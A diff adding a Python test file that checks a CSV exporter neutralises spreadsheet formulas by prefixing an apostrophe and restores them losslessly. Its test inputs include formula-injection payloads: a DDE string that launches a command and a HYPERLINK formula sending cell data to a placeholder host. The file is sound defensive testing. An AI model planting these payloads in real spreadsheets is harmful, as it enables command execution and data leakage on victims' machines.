@@ -1,0 +1,57 @@
+"""Exported tables hold nothing that a spreadsheet would carry out, and every text and number has its way back."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from analysis.export.files import csv_file
+from mrd_core.samples.spreadsheet import csv_text, harmless, restored
+
+FORMULAS = [
+    "=1+1",
+    "@SUM(A1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    '=HYPERLINK("http://x.example?"&A1)',
+    "'=1+1",
+    "''@x",
+]
+PLAIN = ["An answer.", "", "'quoted' speech", "a = b", "-5", "+1e3", "-", "5 - 3"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_a_text_and_the_formula_again(text: str) -> None:
+    assert harmless(text) == f"'{text}"
+    assert restored(harmless(text)) == text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_any_other_text_comes_back_too(text: str) -> None:
+    assert restored(harmless(text)) == text
+
+
+@pytest.mark.parametrize("text", ["An answer.", "'quoted' speech", "-5", "+1e3", "-0.25"])
+def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
+    assert harmless(text) == text
+
+
+def test_no_cell_and_no_name_of_a_table_is_a_formula_and_numbers_are_exact() -> None:
+    values = np.random.default_rng(0).normal(size=len(FORMULAS))
+    frame = pd.DataFrame({"text": FORMULAS, "kind": pd.Categorical(FORMULAS), "=name": "x", "mrd": values})
+    for written in (csv_text(frame), csv_file(frame).decode()):
+        header, *rows = csv.reader(io.StringIO(written, newline=""))
+        assert header == ["text", "kind", "'=name", "mrd"]
+        assert [row[0] for row in rows] == [row[1] for row in rows] == [f"'{text}" for text in FORMULAS]
+        assert [float(row[3]) for row in rows] == list(values)
+
+
+def test_what_is_undefined_is_an_empty_cell() -> None:
+    assert csv_text(pd.DataFrame({"text": ["a", None], "value": [1.0, np.nan]})) == "text,value\r\na,1.0\r\n,\r\n"
